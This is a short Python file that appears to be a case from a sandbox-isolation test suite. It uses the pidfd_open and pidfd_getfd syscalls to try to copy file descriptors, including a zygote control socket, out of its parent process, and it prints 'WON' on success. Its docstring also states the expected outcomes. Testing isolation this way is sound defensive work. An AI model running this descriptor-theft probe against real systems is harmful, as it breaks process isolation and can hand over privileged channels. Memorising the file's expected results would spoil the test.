"""Copies descriptors out of its parent: the control socket of the zygote.

Expected: too-fast, leaked-task
Payload: not tried: it needs what tracing needs, which the parent refuses by itself
"""

import ctypes
import os


async def main():
    libc = ctypes.CDLL(None)
    pidfd_open, pidfd_getfd = 434, 438
    parent = libc.syscall(pidfd_open, os.getppid(), 0)
    if parent >= 0 and any(libc.syscall(pidfd_getfd, parent, number, 0) >= 0 for number in range(3, 20)):
        print("WON")
    return "page"
